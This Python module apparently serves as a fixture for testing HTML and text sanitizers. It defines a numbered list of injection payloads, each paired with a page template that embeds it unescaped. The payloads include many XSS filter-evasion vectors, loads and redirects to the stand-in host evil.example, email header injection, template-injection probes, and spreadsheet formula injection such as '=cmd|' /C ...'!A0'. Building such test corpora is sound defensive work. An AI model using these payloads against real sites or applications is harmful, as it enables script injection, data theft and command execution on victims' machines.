"""Texts that would act if any place took them for more than text, and pages that do take them so.

Each text names itself (``x07``) wherever it would act, so that what ran can be told.
"""

from dataclasses import dataclass

TEXT, ATTRIBUTE, BARE, SINGLE = "<p>{}</p>", '<p title="{}">t</p>', "<p title={}>t</p>", "<p title='{}'>t</p>"
TITLE, AREA, COMMENT, SCRIPT = "<title>{}</title>", "<textarea>{}</textarea>", "<!-- {} -->", "<script>'{}'</script>"
LINK, STYLE = '<a href="{}">l</a>', "<style>p {{ color: {} }}</style>"
NOWHERE = ""  # it acts in no page: in a spreadsheet, a header, a template, or by its look


@dataclass(frozen=True)
class Payload:
    """``text``, and ``careless``: a page that puts it where it acts."""

    name: str
    text: str
    careless: str = TEXT

    @property
    def page(self) -> str:
        """The careless page with the text in it as it is."""
        return f"<!doctype html><html><body>{self.careless.format(self.text)}</body></html>"

    @property
    def email(self) -> str:
        """An address of its own."""
        return f"{self.name}@inject.example"


FOUND = [
    (TEXT, "<script>alert('{}')</script>"),
    (TEXT, "<ScRiPt/{0}/>alert('{0}')</sCrIpT >"),
    (TEXT, "<script src=//evil.example/{}.js></script>"),
    (TEXT, "<script type=importmap>{{\"imports\":{{\"{0}\":\"//evil.example/{0}\"}}}}</script>"),
    (TEXT, "<img src=/{0} onerror=alert('{0}')>"),
    (TEXT, "<img\x0csrc=/{0}\x0conerror=alert('{0}')\x0c/>"),
    (TEXT, "<body onload=alert('{0}')><details open ontoggle=alert('{0}')>"),
    (TEXT, "<input autofocus onfocus=alert`{}`>"),
    (TEXT, "<svg onload=alert('{}')>"),
    (TEXT, "<svg><animate onbegin=alert('{}') attributeName=x dur=1s>"),
    (TEXT, "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert('{0}')>#{0}\"/></svg>"),
    (TEXT, "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=/{0} onerror=alert('{0}')>\">"),
    (TEXT, "<noscript><p title=\"</noscript><img src=/{0} onerror=alert('{0}')>\">"),
    (TEXT, "<template><s id={0}></template><xmp><p id=\"</xmp><img src=/{0} onerror=alert('{0}')>\">"),
    (TEXT, "<iframe srcdoc=\"&lt;script&gt;parent.alert('{}')&lt;/script&gt;\"></iframe>"),
    (TEXT, "<iframe src=\"javascript:parent.alert('{}')\"></iframe>"),
    (TEXT, "<object data=/{0} type=text/html></object><embed src=/{0}>"),
    (TEXT, "<meta http-equiv=refresh content=\"0;url=//evil.example/{}\">"),
    (TEXT, "<base href=//evil.example/{0}/><link rel=stylesheet href={0}.css>"),
    (TEXT, "<form action=//evil.example/{0}><button formaction=javascript:alert('{0}')>{0}</button></form>"),
    (TEXT, "<style>@import'//evil.example/{0}';*{{background:url(//evil.example/{0})}}</style>"),
    (TEXT, "<p style=\"background:url(//evil.example/{0});width:expression(alert('{0}'))\">{0}</p>"),
    (TEXT, "<a href=\"javascript:alert('{0}')\">{0}</a>"),
    (TEXT, "<a href=\" \x01java&#x09;script&colon;alert('{0}')\">{0}</a>"),
    (TEXT, "<p hx-get=/{0} hx-trigger=load hx-on::load=alert('{0}') data-hx-get=/{0}>{0}</p>"),
    (TEXT, "<!--[if gte IE 4]>{0}<![endif]--><!-->--!><img src=/{0} onerror=alert('{0}')>"),
    (ATTRIBUTE, "\" onmouseover=\"alert('{0}')\" autofocus tabindex=1 onfocus=\"alert('{0}')"),
    (SINGLE, "' onmouseover=alert(\"{0}\") tabindex=1 autofocus onfocus='alert(\"{0}\")"),
    (BARE, "{0} onmouseover=alert(/{0}/) autofocus tabindex=1 onfocus=alert(/{0}/)"),
    (TITLE, "</title></head><body onload=alert('{}')>"),
    (AREA, "</textarea><img src=/{0} onerror=alert('{0}')>"),
    (COMMENT, "--><svg/onload=alert('{}')>"),
    (SCRIPT, "'-alert('{0}')-'"),
    (SCRIPT, "{{\"{0}\":1}}</script><script>alert('{0}')</script>"),
    (SCRIPT, "\u2028alert('{0}')//'+alert('{0}')+'${{alert('{0}')}}`"),
    (STYLE, "red }} @import '//evil.example/{0}'; p {{ background: url(//evil.example/{0})"),
    (LINK, "javascript:alert('{}')//https://a.example/"),
    (LINK, "jav&#x0A;ascript:alert('{}')"),
    (LINK, "vbscript:msgbox(\"{}\")"),
    (LINK, "data:text/html,<script>alert('{}')</script>"),
    (NOWHERE, "[{0}](javascript:alert%28'{0}'%29) ![{0}](data:text/html,{0}) <javascript:alert('{0}')>"),
    (NOWHERE, "[{0}]( JaVa\tscript&colon;alert('{0}') \"t' onclick='alert(1)\") ![{0}](//evil.example/{0}.png)"),
    (NOWHERE, "[{0}]: javascript:alert('{0}')\n\n[{0}] [{0}][] <https://a.example/\"onclick=alert('{0}')>"),
    (NOWHERE, "{0} {{{{7*7}}}} ${{7*7}} <%= 7*7 %> {{% debug %}} #{{7*7}} %(name)s {{name}} {{0}}"),
    (NOWHERE, "+ADw-script+AD4-alert('{}')+ADw-/script+AD4-"),
    (NOWHERE, "{0}\u202e\u2066gpj.exe\u2069\u200b<\u200bscript\u200d>alert('{0}')\ufeff"),
    (NOWHERE, "{0}\r\nBcc: victim@evil.example\r\nX-Injected: {0}\r\n\r\n<script>alert('{0}')</script>"),
    (NOWHERE, "{0}\nFrom: boss@evil.example\x0b\x1b[31m =?utf-8?q?=0D=0AX-Injected:_{0}?="),
    (NOWHERE, "=cmd|' /C {}'!A0"),
    (NOWHERE, "+1+HYPERLINK(\"//evil.example/{0}\",\"{0}\")"),
    (NOWHERE, "-2+3+cmd|'{}'!A0"),
    (NOWHERE, "@SUM(1+1)*{}"),
    (NOWHERE, "\t=1+{0}\r=2+{0}"),
    (NOWHERE, "{0};=HYPERLINK(\"//evil.example/{0}\";\"{0}\");"),
]  # fmt: skip

PAYLOADS = [Payload(f"x{number:02}", text.format(f"x{number:02}"), page) for number, (page, text) in enumerate(FOUND)]
